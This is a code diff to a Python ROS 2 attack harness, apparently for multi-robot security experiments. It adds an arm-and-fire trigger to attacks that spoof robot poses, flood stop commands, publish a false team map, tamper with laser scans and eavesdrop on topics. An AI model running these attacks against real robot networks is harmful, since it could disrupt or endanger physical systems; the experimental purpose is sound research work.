@@ -30,7 +30,7 @@ import sys
 import threading
 import time
 from pathlib import Path
-from typing import Any
+from typing import Any, Callable
 
 import numpy as np
 import rclpy
@@ -80,6 +80,7 @@ class Attack:
         self.rng = np.random.default_rng(cfg.get("seed", 7))
         self.node = rclpy.create_node(NODE_NAMES[self.kind], enable_rosout=False, start_parameter_services=False)
         self.lock = threading.Lock()
+        self.fired = threading.Event()
         self.rep: dict[str, Any] = {"verb": self.kind, "domain": cfg.get("domain"), "node": f"/{NODE_NAMES[self.kind]}",
                                     "sent": 0, "subscribers_max": 0}
 
@@ -103,10 +104,33 @@ class Attack:
     def wait(self) -> None:
         self.stop.wait(float(self.cfg["duration"]))
 
+    def arm(self, victims_matched: Callable[[], bool]) -> None:
+        """Report armed (``cfg["armed"]``) once the attack's endpoints exist and, where the
+        victims share its domain (``cfg["expect_victims"]``), DDS has matched them with
+        the victims' (bounded by ``cfg["arm_timeout"]``); then wait for ``cfg["fire"]``.
+        Without those keys the attack fires at once."""
+        deadline = time.monotonic() + float(self.cfg.get("arm_timeout", 60.0))
+        matched = victims_matched()
+        while self.cfg.get("expect_victims") and not matched and not self.stop.is_set() and time.monotonic() < deadline:
+            self.stop.wait(0.05)
+            matched = victims_matched()
+        self.rep["victims_matched_when_armed"] = matched
+        if self.cfg.get("armed"):
+            armed = Path(self.cfg["armed"])
+            tmp = armed.with_suffix(".tmp")
+            tmp.write_text(json.dumps({"matched": matched}))
+            tmp.replace(armed)
+        if self.cfg.get("fire"):
+            fire = Path(self.cfg["fire"])
+            while not fire.exists() and not self.stop.is_set():
+                self.stop.wait(0.02)
+        self.fired.set()
+
     def run(self) -> None:
         t = self.target
         if self.kind == "spoof-pose":  # the robot "teleports all over the map" (seed 001)
             pub = self.node.create_publisher(PoseStamped, f"/{t}/pose", 10)
+            self.arm(lambda: pub.get_subscription_count() > 0)
             self.until_stopped(200.0, pub, lambda i: serialize_message(PoseStamped(
                 header=Header(frame_id="map"),
                 pose=Pose(position=Point(x=float(self.rng.uniform(0, self.W * 0.2)), y=float(self.rng.uniform(0, self.H * 0.2))),
@@ -114,9 +138,11 @@ class Attack:
         elif self.kind == "cmd-flood":  # seed 001's denial of service: stop commands at 1 kHz
             pub = self.node.create_publisher(Twist, f"/{t}/cmd_vel", 10)
             stop_cmd = serialize_message(Twist())
+            self.arm(lambda: pub.get_subscription_count() > 0)
             self.until_stopped(1000.0, pub, lambda i: stop_cmd)
         elif self.kind == "false-map":  # seed 000's impersonation: every cell free, exploration complete
             pub = self.node.create_publisher(UInt8MultiArray, "/team/map", RELIABLE)
+            self.arm(lambda: pub.get_subscription_count() > 0)
             t0 = time.time()
             W, H = self.W, self.H
             self.until_stopped(2.0, pub, lambda i: wrap_packet(P.encode(P.make(
@@ -136,7 +162,7 @@ class Attack:
         self.rep.update(read=0)
 
         def alter(data: bytes) -> None:
-            if digest(data) in own:
+            if not self.fired.is_set() or digest(data) in own:
                 return  # our own noise coming back
             self.rep["read"] += 1
             m = deserialize_message(data, LaserScan)
@@ -146,7 +172,8 @@ class Attack:
             pub.publish(out)
             self.rep["sent"] += 1
 
-        self.node.create_subscription(LaserScan, topic, alter, 10, raw=True)
+        sub = self.node.create_subscription(LaserScan, topic, alter, 10, raw=True)
+        self.arm(lambda: pub.get_subscription_count() > 0 and sub.get_publisher_count() > 0)
         self.wait()
 
     def _eavesdrop(self) -> None:
@@ -175,10 +202,15 @@ class Attack:
                         rr, cc = np.nonzero(d != -1)
                         cells.update(((rr + int(u.origin_y)) * W + (cc + int(u.origin_x))).tolist())
 
+        def robot_topics() -> list[tuple[str, list[str]]]:
+            return [(name, types) for name, types in self.node.get_topic_names_and_types()
+                    if name not in ("/rosout", "/parameter_events") and len(types) == 1]
+
+        self.arm(lambda: bool(robot_topics()))
         end = time.monotonic() + float(self.cfg["duration"])
         while not self.stop.is_set() and time.monotonic() < end:
-            for name, types in self.node.get_topic_names_and_types():
-                if name in topics or name in ("/rosout", "/parameter_events") or len(types) != 1:
+            for name, types in robot_topics():
+                if name in topics:
                     continue
                 pkg, kind, cls_name = types[0].split("/")
                 with contextlib.suppress(ImportError, AttributeError):
